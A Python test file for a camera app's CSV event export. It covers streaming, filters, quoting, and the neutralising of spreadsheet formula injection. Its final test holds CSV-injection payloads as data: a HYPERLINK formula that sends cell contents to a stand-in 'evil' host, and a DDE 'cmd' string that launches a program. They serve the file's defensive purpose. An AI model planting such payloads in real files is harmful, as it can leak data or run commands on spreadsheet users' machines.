"""Events as CSV: streamed, read back exactly by a CSV reader, harmless to a spreadsheet."""

import csv
import io
import re
from datetime import UTC, datetime
from itertools import islice, product

from hypothesis import given
from hypothesis import strategies as st

from app.api import responses
from app.db import database
from app.models import Event
from app.schemas.events import EventSchema
from tests.posting import detection, post_camera, post_detections, post_event

URL = "/api/events/export"
ID, CAMERA_ID, *OTHERS = EventSchema().fields
COLUMNS = [ID, CAMERA_ID, *OTHERS, "camera_name"]
NOON = "2025-12-23T12:00:00.000000Z"


def read(answer):
    """The lines of an export as a CSV reader sees them, without the header line."""
    assert answer.status_code == 200
    header, *lines = csv.reader(io.StringIO(answer.text, newline=""), strict=True)
    assert header == COLUMNS
    return [dict(zip(COLUMNS, line, strict=True)) for line in lines]


def add_events(camera, number):
    nothing = {"summary": "", "reasoning": "", "reviewed": False}
    row = {"camera": camera["id"], "started_at": NOON, **nothing}
    Event.insert_many([row] * number).execute()


def test_the_response_is_a_dated_download_that_is_not_cached(client, monkeypatch):
    late = datetime(2025, 12, 31, 23, 59, tzinfo=UTC)
    monkeypatch.setattr("app.clock.now", lambda: late)
    answer = client.get(URL)
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    name = 'attachment; filename="events-2025-12-31.csv"'
    assert answer.headers["Content-Disposition"] == name
    assert answer.headers["Cache-Control"] == "no-store"
    assert answer.text == ",".join(COLUMNS) + "\r\n"


def test_head_is_get_without_the_body(client):
    answer = client.head(URL)
    assert (answer.status_code, answer.data) == (200, b"")
    assert re.search(r"events-\d{4}-\d\d-\d\d\.csv", answer.headers["Content-Disposition"])


def test_a_row_has_the_values_of_the_event_in_json(client, camera):
    ids = post_detections(client, detection(camera))
    full = post_event(
        client,
        camera,
        ended_at=NOON,
        risk_score=85,
        summary='Zitat: "ja", nein; 🚪',
        reasoning="a,b\N{LINE SEPARATOR}c",
        notes=" 1 ",
        reviewed=True,
        detection_ids=ids,
    )
    empty = post_event(client, camera)
    for row, stored in zip(read(client.get(URL)), (empty, full), strict=True):
        wire = {True: "true", False: "false", None: ""}
        assert row == {"camera_name": camera["name"]} | {
            name: wire[value] if value is None or isinstance(value, bool) else str(value)
            for name, value in stored.items()
        }


def test_each_event_has_the_name_that_its_camera_has_now(client, camera):
    other = post_camera(client, name="Garden, left")
    for each in (camera, other, camera):
        post_event(client, each)
    client.patch(f"/api/cameras/{camera['id']}", json={"name": "Gate"})
    named = [row["camera_name"] for row in read(client.get(URL))]
    assert named == ["Gate", "Garden, left", "Gate"]


def test_the_events_of_a_deleted_camera_are_deleted_too(client, camera):
    other = post_camera(client, name="Garden")
    post_event(client, camera)
    post_event(client, other)
    client.delete(f"/api/cameras/{camera['id']}")
    assert [row["camera_name"] for row in read(client.get(URL))] == ["Garden"]


def test_a_camera_that_is_deleted_during_the_export_may_be_without_a_name(client, camera):
    other = post_camera(client)
    post_event(client, other, started_at="2025-12-23T11:00:00Z")
    post_event(client, camera)
    lines = iter(client.get(URL, buffered=False).response)
    assert camera["name"].encode() in list(islice(lines, 2))[1]
    client.delete(f"/api/cameras/{other['id']}")
    (line,) = lines
    assert f",{other['id']},2025-12-23T11".encode() in line
    assert line.endswith(b",\r\n")


def test_the_filters_of_the_list_choose_the_rows(client, camera):
    other = post_camera(client)
    ids = post_detections(client, detection(camera, object_type="car"))
    wanted = post_event(client, camera, risk_score=90, reviewed=True, detection_ids=ids)
    for change in (
        {"started_at": "2025-12-23T12:00:01Z"},
        {"started_at": "2025-12-23T11:59:59Z"},
        {"risk_score": 84},
        {"reviewed": False},
        {},
    ):
        post_event(client, camera, **{"risk_score": 90, "reviewed": True} | change)
    post_event(client, other, risk_score=90, reviewed=True)
    query = {
        "camera_id": camera["id"],
        "risk_level": "critical",
        "reviewed": "true",
        "object_type": "car",
        "start_date": NOON,
        "end_date": "2025-12-23T12:00:01Z",
    }
    assert [row["id"] for row in read(client.get(URL, query_string=query))] == [str(wanted["id"])]
    fewer = {  # each filter on its own leaves something out
        name: len(read(client.get(URL, query_string={name: value})))
        for name, value in query.items()
    }
    assert max(fewer.values()) < len(read(client.get(URL))) == 7


def test_the_export_is_streamed_a_page_at_a_time(client, camera):
    add_events(camera, 1700)
    pages = []
    database.connection().set_trace_callback(
        lambda statement: pages.append(statement) if "LIMIT" in statement else None
    )
    answer = client.get(URL, buffered=False)
    assert answer.is_streamed
    assert "Content-Length" not in answer.headers
    lines = iter(answer.response)
    assert pages == []  # nothing is read before it is sent
    assert len(list(islice(lines, 2))) == 2
    assert len(pages) == 1
    assert len(list(lines)) == 1699
    assert len(pages) == 5
    assert all(page.endswith("LIMIT 500") for page in pages)


def test_an_export_leaves_no_read_transaction_open_and_sees_what_came_meanwhile(client, camera):
    add_events(camera, 600)
    lines = iter(client.get(URL, buffered=False).response)
    next(lines)
    next(lines)
    add_events(camera, 1)  # sorts first, so it is passed already
    Event.delete().where(Event.id <= 50).execute()
    assert len(list(lines)) == 600 - 1 - 50


STARTS = "=+-@\t\r\n\N{FULLWIDTH EQUALS SIGN}\N{FULLWIDTH PLUS SIGN}"
STARTS += "\N{FULLWIDTH HYPHEN-MINUS}\N{FULLWIDTH COMMERCIAL AT}"


def test_a_cell_that_begins_as_a_formula_becomes_text():
    for start, blank in product(STARTS, ("", " ", "\u00a0", " \t ")):
        assert responses.escape_formula(f"{blank}{start}1+1") == f"'{blank}{start}1+1"
        assert responses.escape_formula(f"x{blank}{start}1") == f"x{blank}{start}1"


def test_a_formula_behind_a_semicolon_becomes_text_there():
    for start in STARTS:
        assert responses.escape_formula(f"a;{start}1;b;  {start}2") == f"a;'{start}1;b;'  {start}2"
    assert responses.escape_formula("a; b;c") == "a; b;c"


@given(st.text() | st.text(";=-@ \t\r\nx"))
def test_no_cell_begins_as_a_formula_and_none_is_lost(text):
    cell = responses.escape_formula(text)
    assert cell in (text, "'" + text) or ";" in text
    assert cell.replace("'", "") == text.replace("'", "")
    for part in cell.split(";"):
        assert not part.startswith(tuple(STARTS))
        assert not part.strip().startswith(tuple(STARTS))


def test_cells_are_quoted_as_rfc_4180_says_and_those_with_a_semicolon_too():
    columns = ("a",)
    for text, line in (
        ("plain", "plain"),
        ("one,two", '"one,two"'),
        ("one;two", '"one;two"'),
        ('say "hi"', '"say ""hi"""'),
        ("two\r\nlines", '"two\r\nlines"'),
        ("x\ty", '"x\ty"'),
        (None, ""),
        (False, "false"),
        (-1, "-1"),
    ):
        assert list(responses.csv_lines([{"a": text}], columns)) == ["a\r\n", line + "\r\n"]


@given(st.lists(st.text(), min_size=2, max_size=2))
def test_a_csv_reader_reads_back_exactly_what_was_written(cells):
    columns = ("a", "b")
    row = dict(zip(columns, cells, strict=True))
    text = "".join(responses.csv_lines([row, row], columns))
    lines = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    assert lines == [list(columns), *[[responses.escape_formula(cell) for cell in cells]] * 2]
    assert text.endswith("\r\n")


def test_formulas_arrive_harmless_from_every_text_column(client):
    dangerous = '=HYPERLINK("http://evil/?"&A1,"ok")'
    camera = post_camera(client, name="=1+1")
    post_event(
        client, camera, summary=dangerous, reasoning=f"  {dangerous}", notes="-1+cmd|' /C calc'!A0"
    )
    (row,) = read(client.get(URL))
    assert row["camera_name"] == "'=1+1"
    assert row["summary"] == "'" + dangerous
    assert row["reasoning"] == f"'  {dangerous}"
    assert row["notes"] == "'-1+cmd|' /C calc'!A0"
